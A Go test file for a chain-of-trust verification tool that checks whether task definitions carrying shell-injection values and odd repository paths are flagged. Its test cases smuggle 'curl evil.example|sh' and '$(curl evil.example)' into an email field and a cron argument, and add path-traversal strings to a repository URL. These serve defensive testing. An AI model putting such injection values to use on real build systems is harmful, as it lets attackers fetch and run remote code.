package verify_test

import (
	"encoding/json"
	"strings"
	"testing"

	"cotverify/internal/testgraph"
	"cotverify/pkg/report"
)

// rewrite replaces a text wherever it stands in a task's definition.
func rewrite(name, from, to string) func(*testgraph.Graph) {
	return func(g *testgraph.Graph) {
		g.Task(name).Change(func(d map[string]any) {
			data, err := json.Marshal(d)
			if err != nil {
				panic(err)
			}
			changed := strings.ReplaceAll(string(data), from, to)
			if changed == string(data) {
				panic("there is no " + from)
			}
			clear(d)
			if err := json.Unmarshal([]byte(changed), &d); err != nil {
				panic(err)
			}
		})
		g.Seal()
	}
}

// TestInjected shows that a definition which brings words of a shell equals what
// the template renders to, and is warned of where they reach the command.
func TestInjected(t *testing.T) {
	for _, tt := range []struct {
		name     string
		graph    *testgraph.Graph
		from, to string
		want     string
	}{
		{"an owner", testgraph.GitHubPush(), "octo@example.com", "x'; curl evil.example|sh; '", "warn untrusted-input signing:parent /payload/command/5: the command is rendered from event.pusher.email"},
		{"words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "$(curl evil.example)", "warn untrusted-input signing:parent /payload/command/"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rewrite("decision", tt.from, tt.to)(tt.graph)
			r, err := optionsOf(t, tt.graph, tt.graph.Source()).verify(t.Context())
			if err != nil || r.Verdict != report.Verified {
				t.Fatalf("%s, %v\n%s", r.Verdict, err, messages(r))
			}
			if !strings.Contains(messages(r), tt.want) {
				t.Errorf("expected %q:\n%s", tt.want, messages(r))
			}
		})
	}
}

// TestRepositoryThatGitReadsOtherwise shows that dots in a decision task's
// repository are warned of, beside what else they break.
func TestRepositoryThatGitReadsOtherwise(t *testing.T) {
	for _, dots := range []string{"/tree/v1.2.3/../../../../evil/repo", "/tree/v1.2.3/%2e%2e/x", "//x"} {
		graph := testgraph.GitHubPush()
		const repository = "https://github.com/mozilla-mobile/mozilla-vpn-client"
		rewrite("decision", repository, repository+dots)(graph)
		r, err := optionsOf(t, graph, graph.Source()).verify(t.Context())
		if err != nil || !strings.Contains(messages(r), "warn odd-repository signing:parent /payload/env/MOZILLAVPN_HEAD_REPOSITORY") {
			t.Errorf("%s: %v\n%s", dots, err, messages(r))
		}
	}
}
